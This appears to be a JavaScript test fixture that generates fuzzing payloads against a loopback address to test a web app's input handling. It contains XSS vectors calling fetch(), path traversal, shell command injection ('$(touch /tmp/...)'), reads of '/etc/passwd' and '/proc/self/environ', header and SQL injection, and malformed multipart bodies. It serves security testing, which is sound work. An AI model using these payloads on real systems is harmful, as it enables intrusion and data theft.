// Texts that are written to break out of where they are put: markup, paths, headers, multipart,
// unicode. All end at one address on loopback, so that any that runs or loads something is seen there.

/** A generator that gives the same numbers for the same seed (mulberry32). */
export function numbers(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

const markup = (at, mark) => {
  const run = `fetch('${at}/ran?${mark}')`;
  return [
    `<script>${run}</script>`, `<script src="${at}/script?${mark}"></script>`,
    `<img src=x onerror="${run}">`, `<img src="${at}/image?${mark}">`, `<svg onload="${run}"></svg>`,
    `<svg><script href="${at}/svg?${mark}"/></svg>`, `<iframe src="${at}/frame?${mark}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<object data="${at}/object?${mark}"></object>`,
    `<embed src="${at}/embed?${mark}">`, `<link rel="stylesheet" href="${at}/sheet?${mark}">`,
    `<link rel="prefetch" href="${at}/prefetch?${mark}">`, `<style>@import url("${at}/import?${mark}");</style>`,
    `<style>*{background:url("${at}/url?${mark}")}</style>`, `<div style="background:url(${at}/style?${mark})">`,
    `<base href="${at}/base/${mark}/">`, `<meta http-equiv="refresh" content="0;url=${at}/refresh?${mark}">`,
    `<form action="${at}/form?${mark}"><input autofocus onfocus="this.form.submit()"></form>`,
    `<body onload="${run}">`, `<details open ontoggle="${run}">`, `<input autofocus onfocus="${run}">`,
    `<video src="${at}/video?${mark}" autoplay></video>`, `<audio src="${at}/audio?${mark}" autoplay></audio>`,
    `<source srcset="${at}/srcset?${mark}">`, `<table background="${at}/background?${mark}">`,
    `<math><mtext><img src="${at}/math?${mark}"></mtext></math>`, `<a href="javascript:${run}" id=x autofocus>`,
    `<marquee onstart="${run}">`, `<xss onanimationstart="${run}" style="animation:x">`,
    `<template><script>${run}</script></template>`, `<noscript><img src="${at}/noscript?${mark}"></noscript>`,
    `{{constructor.constructor("${run}")()}}`, `\${${run}}`, `<%= ${run} %>`, `javascript:${run}`,
    `data:text/html,<script>${run}</script>`, `&lt;script&gt;${run}&lt;/script&gt;`, `\\u003cscript\\u003e${run}`,
    `<!--#include virtual="/etc/passwd" -->`, `<?php ${run} ?>`, `<!ENTITY x SYSTEM "${at}/entity?${mark}">`,
    `expression(${run})`, `'-${run}-'`, `";${run};//`, `\`;${run};//`, `]]>${run}<![CDATA[`,
  ];
};

const paths = (mark) => [
  `../../../../../../tmp/${mark}`, `..\\..\\..\\..\\tmp\\${mark}`, `/tmp/${mark}`, `//tmp/${mark}`,
  `....//....//....//tmp/${mark}`, `%2e%2e%2f%2e%2e%2ftmp%2f${mark}`, `..%c0%af..%c0%aftmp/${mark}`,
  `file:///tmp/${mark}`, `\\\\127.0.0.1\\share\\${mark}`, `C:\\${mark}`, `CON`, `NUL.txt`, `.`, `..`, `~/${mark}`,
  `-rf ${mark}`, `--help`, `$(touch /tmp/${mark})`, `\`touch /tmp/${mark}\``, `;touch /tmp/${mark};`,
  `|touch /tmp/${mark}`, `&& touch /tmp/${mark}`, `/proc/self/environ`, `/dev/stdin`, `.htaccess`,
  `${"a/".repeat(200)}${mark}`, `${"x".repeat(5000)}`, `a.jpg\u0000.html`, `=cmd|'/c ${mark}'!A1`,
];

const headers = (mark) => [
  `x\r\nX-Injected: ${mark}`, `x\nX-Injected: ${mark}`, `x\r\n\r\n<script>${mark}</script>`, `x%0d%0aX-Injected:%20${mark}`,
  `"; filename="${mark}.html"; x="`, `text/html; charset=utf-7`, `multipart/mixed; boundary=${mark}`,
  `text/html`, `image/svg+xml`, `application/x-httpd-php`, `*/*`, `a/b/c`, `;;;`, `${"y".repeat(20000)}`,
];

const unicode = (mark) => [
  `\u202e${mark}gpj.exe`, `\u200b\u200d\u2060${mark}`, `${mark}\u2028\u2029\u0085`, "\ufeff".repeat(40) + mark,
  `a${"\u0301".repeat(400)}${mark}`, "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}".repeat(30), "\ufdfd".repeat(90),
  "\u{1f1e6}".repeat(99), `\uff1cscript\uff1e${mark}`, `\u2039script\u203a`, `\u0130\u0131\u017f\u1e9e${mark}`,
  "\u{e0001}\u{e0041}\u{e007f}", `\u0000${mark}`, `\u001b[2J\u001b]0;${mark}\u0007`, "\ufffe\uffff", "\ud7ff\ue000\u{10ffff}",
  `\u0627\u0644\u0644\u0647 <b>${mark}`, `\u05e9\u05dc\u05d5\u05dd"><b>`, "0".repeat(2000), `1e309`, `-0`, `null`, `' OR 1=1 --`,
];

const wraps = [
  (one) => one, (one) => `">${one}`, (one) => `'>${one}`, (one) => `--></script>${one}`, (one) => `</textarea>${one}`,
  (one) => `</title></style>${one}`, (one) => `]]>${one}`, (one) => `<b>${one}`, (one) => one.toUpperCase(),
  (one) => one.replaceAll("<", "<\u0000"), (one) => one.replaceAll("<", "%3C"), (one) => one.replaceAll("<", "&#60"),
  (one) => `${one}${one}`, (one) => one.split("").reverse().join(""), (one) => ` \t${one}\t `, (one) => `<<${one}>>`,
  (one) => one.replaceAll("script", "scr<script>ipt"), (one) => `\u202e${one}`, (one) => `${one}\u0000`, (one) => `%${one}%00`,
];

/** `count` different texts; each that is code asks at `at`, under its own number. */
export function payloads(count, at, seed = 1) {
  const below = numbers(seed);
  const found = new Set();
  while (found.size < count) {
    const mark = `testimony-payload-${found.size}`;
    const kinds = [markup(at, mark), markup(at, mark), paths(mark), headers(mark), unicode(mark)];
    const kind = kinds[below(kinds.length)];
    found.add(wraps[below(wraps.length)](kind[below(kind.length)]));
  }
  return [...found];
}

const bytes = (text) => Buffer.from(text, "utf8");

/** Bodies that are hardly multipart: endings missing, doubled, inside one another, not UTF-8. */
export function brokenForms(text) {
  const part = (name, rest = "") => `--B\r\nContent-Disposition: form-data; name="${name}"${rest}\r\n\r\n`;
  const account = part("account");
  return [
    bytes(`${account}${text}`), bytes(`${account}${text}\r\n--B`), bytes(`${account}${text}\r\n--B--extra`),
    bytes(`${account}${text}\r\n${account}${text}\r\n--B--\r\n`), bytes(`--B\r\n\r\n${text}\r\n--B--\r\n`),
    bytes(`${part(text)}x\r\n--B--\r\n`), bytes(`${part("files", `; filename=${text}`)}x\r\n--B--\r\n`),
    bytes(`${part("files", `; filename*=UTF-8''${encodeURIComponent(text.toWellFormed())}`)}x\r\n--B--\r\n`),
    bytes(`${account}--B--B--B\r\n${text}\r\n--B--\r\n`), bytes(`\r\n--B--\r\n${text}`), bytes("--B\r\n".repeat(1100)),
    Buffer.concat([bytes(account), Buffer.from([0xed, 0xa0, 0x80, 0xc0, 0xaf, 0xff, 0xfe]), bytes(`${text}\r\n--B--\r\n`)]),
    bytes(`--B\r\nContent-Type: multipart/mixed; boundary=C\r\nContent-Disposition: form-data; name="files"\r\n\r\n--C\r\n\r\n${text}\r\n--C--\r\n--B--\r\n`),
    bytes(`--B\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: form-data; name="account"\r\n\r\n${btoa("x")}\r\n--B--\r\n`),
    bytes(`--B\r\n${"X-Y: z\r\n".repeat(2000)}\r\n${text}\r\n--B--\r\n`),
  ];
}
